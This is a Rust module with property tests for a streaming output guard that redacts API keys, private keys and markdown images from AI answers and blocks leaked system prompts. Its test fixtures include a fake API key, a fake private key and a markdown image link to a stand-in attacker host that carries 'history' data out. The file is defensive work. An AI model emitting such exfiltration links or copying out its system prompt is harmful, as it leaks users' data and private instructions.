//! Output guards on a stream: a part of an answer (a choice's text, a tool call's arguments)
//! arrives a delta at a time; [`release`] lets out what is safe of what is held, redacted,
//! keeping back a short tail in which a value may still be completing, and says when a
//! finding calls for the answer to be blocked, before any of it has gone out.

use crate::scan::{Category, Finding};
use crate::vault::{Operator, Vault, apply};

/// What an output guard does with what it finds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutputAction {
    /// Replaces it by its kind.
    Redact,
    /// Ends the answer.
    Block,
}

/// How much of a part is held back: a value is caught if its pattern matches within this many
/// bytes of its start.
pub const HOLD: usize = 160;

/// What [`release`] let out.
#[derive(Debug, Default)]
pub struct Released {
    /// The text that may go out now (redacted).
    pub text: String,
    /// What was found in it, and what was done.
    pub findings: Vec<(Finding, Option<OutputAction>)>,
    /// A finding calls for the answer to end: nothing of it went out.
    pub blocked: bool,
}

/// Where a held part may be cut: [`HOLD`] from its end, or before an unfinished PEM block or
/// markdown image, never inside a character; all of it when `last`.
fn cut_point(text: &str, last: bool) -> usize {
    if last {
        return text.len();
    }
    let mut cut = text.len().saturating_sub(HOLD);
    if let Some(begin) = text.rfind("-----BEGIN")
        && !text[begin..].contains("-----END")
        && text.len() - begin < 16 * 1024
    {
        cut = cut.min(begin);
    }
    if let Some(image) = text.rfind("![")
        && !text[image..].contains(')')
        && text.len() - image < 4096
    {
        cut = cut.min(image);
    }
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    cut
}

/// Lets out what may go of `held` (all of it when `last`), leaving the rest held.
/// `scan` finds what the guards look for (a scanner's findings, with more merged in, in
/// order and without overlaps).
pub fn release(
    held: &mut String,
    scan: impl Fn(&str) -> Vec<Finding>,
    action: impl Fn(Category) -> Option<OutputAction>,
    last: bool,
) -> Released {
    // Nothing can go out of a part shorter than the hold: no need to look yet.
    if !last && held.len() <= HOLD {
        return Released::default();
    }
    let found = scan(held);
    let mut cut = cut_point(held, last);
    // A finding that reaches the end may still grow: held whole.
    for finding in &found {
        if !last && finding.end == held.len() && finding.start < cut {
            cut = finding.start;
        }
    }
    let limit = cut;
    let mut released = Released::default();
    let mut redact = Vec::new();
    for finding in found.into_iter().filter(|finding| finding.start < limit) {
        let chosen = action(finding.category);
        match chosen {
            Some(OutputAction::Block) => released.blocked = true,
            Some(OutputAction::Redact) => {
                cut = cut.max(finding.end);
                redact.push(finding.clone());
            }
            None => {}
        }
        released.findings.push((finding, chosen));
    }
    if released.blocked {
        held.clear();
        return released;
    }
    let rest = held.split_off(cut);
    let ready = std::mem::replace(held, rest);
    released.text = if redact.is_empty() {
        ready
    } else {
        let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, b"unused: labels only");
        apply(
            &ready,
            &redact,
            Operator::Label,
            &mut Vault::default(),
            &key,
        )
    };
    released
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;

    use proptest::prelude::*;

    use super::*;
    use crate::scan::{Scanner, link_recognizers, secret_recognizers};

    fn scanner() -> Scanner {
        let mut recognizers = secret_recognizers();
        recognizers.extend(link_recognizers());
        Scanner::new(recognizers, 0.5, HashMap::new()).expect("scanner")
    }

    const TEXT: &str = "Use sk-ant-api03-Zx8kQ2mP9vL4tR7wN1bC6yH3jF5gD0sAq then look at \
        ![chart](https://evil.example/c.png?d=history) and \
        -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY----- done.";

    fn stream(cuts: &[usize], action: OutputAction) -> (String, bool) {
        let scanner = scanner();
        let mut held = String::new();
        let (mut out, mut at) = (String::new(), 0);
        let mut points: Vec<usize> = cuts.iter().map(|c| (*c).min(TEXT.len())).collect();
        points.sort_unstable();
        points.push(TEXT.len());
        for (i, point) in points.iter().enumerate() {
            let mut point = *point;
            while !TEXT.is_char_boundary(point) {
                point -= 1;
            }
            held.push_str(&TEXT[at.min(point)..point]);
            at = at.max(point);
            let released = release(
                &mut held,
                |text| scanner.scan(text),
                |_| Some(action),
                i + 1 == points.len(),
            );
            if released.blocked {
                return (out, true);
            }
            out.push_str(&released.text);
        }
        (out, false)
    }

    proptest! {
        // Each case scans the answer a few dozen times with every recognizer: a few dozen
        // cuttings are plenty.
        #![proptest_config(ProptestConfig::with_cases(24))]

        /// However the answer is cut into deltas, what goes out is the whole answer redacted.
        #[test]
        fn a_stream_is_redacted_the_same_across_any_cut(cuts in proptest::collection::vec(0usize..400, 0..20)) {
            let (out, blocked) = stream(&cuts, OutputAction::Redact);
            prop_assert!(!blocked);
            prop_assert_eq!(
                out,
                "Use [ANTHROPIC_KEY] then look at [MARKDOWN_IMAGE] and [PRIVATE_KEY] done."
            );
        }

        /// A copy of the system prompt is stopped before any of its words go out, however the
        /// answer is cut.
        #[test]
        fn a_copied_system_prompt_is_stopped_across_any_cut(cuts in proptest::collection::vec(0usize..300, 0..20)) {
            let system = "You are Ava, the support assistant of Northwind Bank. Never discuss \
                interest rates before checking the customer's segment.";
            let answer = format!("Sure. My instructions: {system} That is all.");
            let leaks = crate::leak::Leaks::new([system], None);
            let mut points: Vec<usize> = cuts.iter().map(|c| (*c).min(answer.len())).collect();
            points.sort_unstable();
            points.push(answer.len());
            let (mut held, mut out, mut at, mut blocked) = (String::new(), String::new(), 0, false);
            for (i, point) in points.iter().enumerate() {
                held.push_str(&answer[at.min(*point)..*point]);
                at = at.max(*point);
                let released = release(&mut held, |text| leaks.find(text), |_| Some(OutputAction::Block), i + 1 == points.len());
                out.push_str(&released.text);
                if released.blocked {
                    blocked = true;
                    break;
                }
            }
            prop_assert!(blocked);
            prop_assert!(!out.contains("Ava"), "{}", out);
        }

        /// A block lets nothing of the secret out, however the answer is cut.
        #[test]
        fn a_block_lets_nothing_of_the_secret_out(cuts in proptest::collection::vec(0usize..400, 0..20)) {
            let (out, blocked) = stream(&cuts, OutputAction::Block);
            prop_assert!(blocked);
            prop_assert!(!out.contains("sk-ant"), "{}", out);
            prop_assert!("Use ".starts_with(&out) || out.is_empty(), "{}", out);
        }
    }
}
